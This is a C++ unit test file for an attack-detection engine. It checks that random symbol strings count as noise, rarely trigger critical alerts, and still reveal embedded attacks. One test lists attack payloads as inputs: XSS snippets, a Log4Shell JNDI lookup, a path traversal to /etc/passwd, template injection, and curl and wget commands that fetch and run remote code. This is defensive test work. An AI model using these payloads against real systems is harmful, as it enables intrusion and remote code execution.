#include "inspect/attack/noise.h"

#include <gtest/gtest.h>

#include <memory>
#include <random>
#include <string>

#include "inspect/attack/byte_class.h"
#include "inspect/attack/testing.h"

namespace firebreak::inspect {
namespace {

std::string RandomSigns(std::mt19937& random, size_t size) {
  std::string text(size, ' ');
  for (char& c : text) c = static_cast<char>('!' + random() % ('~' - '!' + 1));
  return text;
}

bool Noise(absl::string_view text) { return IsNoise(text, ClassesOf(text)); }

// What all rules say of a text that is judged as the engine would.
Hits HitsAsJudged(absl::string_view text) {
  const auto tokens = std::make_unique<SqlTokens>();
  LowerText lower;
  lower.Set(text);
  Hits hits;
  hits.Begin(text, Noise(text) ? Matter::kNoise : Matter::kText);
  FindAttacks(View(lower), text, Scope::kAll, *tokens, hits);
  return hits;
}

TEST(Noise, IsToldFromTextsAndCode) {
  std::mt19937 random(1);  // NOLINT(cert-msc32-c,cert-msc51-cpp): the same texts every time
  for (int round = 0; round < 100; ++round) EXPECT_TRUE(Noise(RandomSigns(random, 400)));
  for (const absl::string_view text :
       {"short #{noise}",
        "function f(a,b){if(a&&b||!a){return a.map(x=>x*2).filter(y=>y%3!=0)[0];}var s=\"it's\"; "
        "s+=`${a}`;for(let i=0;i<b;i++){console.log(s,i+1,a[i]|b);}} // f@x #1 ~ \\n? <p> $5 ^ _ "
        "{}",
        "Dear all; it's #1 (or 2*3=6) & more: <b>50%</b> \"off\"! See https://x.example/?a=1&b=[2] "
        "or mail me@x.example - {c} ~ $5 + 3_000 | `code` \\ ^ and so on; yours, A. B."}) {
    EXPECT_FALSE(Noise(text)) << text;
  }
}

TEST(Noise, HoldsHardlyAnAttackByChance) {
  std::mt19937 random(2);  // NOLINT(cert-msc32-c,cert-msc51-cpp): the same texts every time
  int alarms = 0;
  for (int round = 0; round < 2'000; ++round) {
    int score = 0;
    HitsAsJudged(RandomSigns(random, 1'000)).ForEachHit([&](Rule rule, Hits::Range /*range*/) {
      score += InfoOf(rule).paranoia == 1 ? InfoOf(rule).severity : 0;
    });
    alarms += score >= kCritical ? 1 : 0;
  }
  EXPECT_LT(alarms, 40);
}

TEST(Noise, HidesNoAttackWithWordsInIt) {
  std::mt19937 random(3);  // NOLINT(cert-msc32-c,cert-msc51-cpp): the same texts every time
  for (const absl::string_view attack :
       {"<script>alert(1)</script>", ";curl http://h/x|sh;", "../../../../../../etc/passwd",
        "${jndi:ldap://h/x}", "<svg onload=alert(1)>", "$(wget http://h/x)",
        "{{''.__class__.__mro__}}"}) {
    const std::string noise = RandomSigns(random, 300);
    const std::string text = noise + " " + std::string(attack) + " " + RandomSigns(random, 300);
    ASSERT_TRUE(Noise(text));
    EXPECT_FALSE(HitsAsJudged(text).empty()) << attack;
  }
}

}  // namespace
}  // namespace firebreak::inspect
